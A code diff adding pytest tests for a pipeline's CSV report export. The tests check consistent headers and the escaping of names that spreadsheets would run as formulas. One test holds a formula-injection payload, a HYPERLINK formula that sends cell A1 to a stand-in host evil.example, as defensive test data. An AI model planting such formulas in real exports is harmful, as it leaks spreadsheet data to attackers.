@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
 from datetime import UTC, datetime, timedelta
@@ -18,6 +19,7 @@ from sqlalchemy import select, update
 from pipeline.cli import main
 from pipeline.db import audit_log, segments
 from pipeline.reports import build_report, write_report
+from pipeline.reports.model import TABLE_COLUMNS
 from pipeline.reports.render import HTML_ROWS
 from pipeline.retention.enforcer import enforce
 from pipeline.retention.requests import file_request, process_pending
@@ -298,6 +300,34 @@ def test_csv_writes_one_file_per_table_with_the_json_numbers(pipeline: Pipeline,
     assert [(r["store"], r["data_type"], int(r["overdue"]), r["status"]) for r in rows] == [
         (r["store"], r["data_type"], r["overdue"], r["status"]) for r in document["retention"]["rows"]
     ]
+
+
+def _csv_headers(folder: Path) -> dict[str, list[str]]:
+    return {path.stem: next(csv.reader(io.StringIO(path.read_text()))) for path in folder.glob("*.csv")}
+
+
+def test_every_csv_has_its_header_whether_or_not_it_has_rows(pipeline: Pipeline, tmp_path: Path) -> None:
+    """A reader of the CSV files finds the same columns in an empty home as after a month of records and a
+    retention pass (an empty table was one blank line; audit.csv lost a column after the first pass)."""
+    write_report(build_report(pipeline, now=T0, plots=False), tmp_path / "empty", ["csv"])
+    write_demo_records(pipeline)
+    enforce(pipeline, now=T0)
+    write_report(build_report(pipeline, now=T0, plots=False), tmp_path / "full", ["csv"])
+    empty, full = _csv_headers(tmp_path / "empty"), _csv_headers(tmp_path / "full")
+    assert empty == full == {name: [c for c in columns if c != "account"] for name, columns in TABLE_COLUMNS.items()}
+    with open(tmp_path / "full" / "audit.csv") as fh:
+        (audit,) = csv.DictReader(fh)
+    assert json.loads(audit["last_retention_pass"])["seq"] > 0
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(pipeline: Pipeline, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    pipeline.write_records([make_record("cluster_snapshot", account=formula, observed_at=T0)])
+    write_report(build_report(pipeline, now=T0, plots=False, show_names=True), tmp_path, ["csv"])
+    assert _csv_headers(tmp_path)["usage_accounts"] == list(TABLE_COLUMNS["usage_accounts"])
+    with open(tmp_path / "usage_accounts.csv") as fh:
+        (row,) = csv.DictReader(fh)
+    assert row["account"] == "'" + formula
 
 
 def test_html_is_one_self_contained_file_with_embedded_plots(pipeline: Pipeline, tmp_path: Path) -> None:
